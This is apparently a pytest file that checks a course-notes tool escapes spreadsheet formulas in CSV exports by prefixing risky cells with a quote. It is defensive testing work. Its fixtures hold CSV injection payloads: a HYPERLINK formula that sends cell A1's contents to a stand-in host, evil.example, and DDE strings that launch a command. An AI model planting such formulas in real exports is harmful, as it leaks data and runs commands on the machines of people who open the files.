"""CSV exports: no cell from the notes starts a formula when the file is opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from course_notes.adapters.cli.main import main
from course_notes.render.spreadsheet import Writer, cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]

NOTES = (
    "# week 1\n## readings\n"
    + "".join(f"- {payload}\n" for payload in PAYLOADS)
    + "- Cited Work\n"
    + "# Thoughts\n"
    + '=HYPERLINK("http://evil.example","why?")\n\n'
    + "+cmd|' /C calc'!A0 is context\n\n"
    + "A: @SUM(1,2)\n\n"
    + "-2+3 is it five?\n"
)
REFERENCES = "Cited Work:\n  authors: \"=cmd|' /C calc'!A0\"\n  year: 2000\n"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main(list(argv)) == 0
    out, err = capsys.readouterr()
    assert err == ""
    return out


@pytest.fixture
def notes(tmp_path: Path) -> Path:
    path = tmp_path / "notes.md"
    path.write_text(NOTES, "utf-8")
    (tmp_path / "references.yml").write_text(REFERENCES, "utf-8")
    return path


def test_readings_csv_cells_start_no_formula(
    capsys: pytest.CaptureFixture[str], notes: Path
) -> None:
    out = run(
        capsys,
        "readings",
        "--notes",
        str(notes),
        "--format",
        "csv",
        "--references",
        str(notes.parent / "references.yml"),
    )
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["title"] for row in rows] == [f"'{payload}" for payload in PAYLOADS] + [
        "Cited Work"
    ]
    assert rows[-1]["citation"] == "'=cmd|' /C calc'!A0 (2000), Cited Work"
    # JSON is data, not a sheet: it keeps the text as written.
    data = json.loads(run(capsys, "readings", "--notes", str(notes), "--format", "json"))
    assert [record["title"] for record in data][:4] == PAYLOADS


def test_questions_csv_cells_start_no_formula(
    capsys: pytest.CaptureFixture[str], notes: Path
) -> None:
    out = run(capsys, "questions", "--notes", str(notes), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    first, second = rows
    assert first["title"] == first["text"] == '\'=HYPERLINK("http://evil.example","why?")'
    assert first["context"] == "'+cmd|' /C calc'!A0 is context"
    assert first["answer"] == "'@SUM(1,2)"
    assert second["text"] == "'-2+3 is it five?"
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a=1+1", "a=1+1"),
        ("two\rlines", "two\rlines"),
        (" =1", " =1"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_a_cell_starting_like_a_formula_gets_a_quote(text: str, shown: str) -> None:
    assert cell(text) == shown
    out = io.StringIO()
    Writer(out).writerow([text, "plain"])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [[shown, "plain"]]
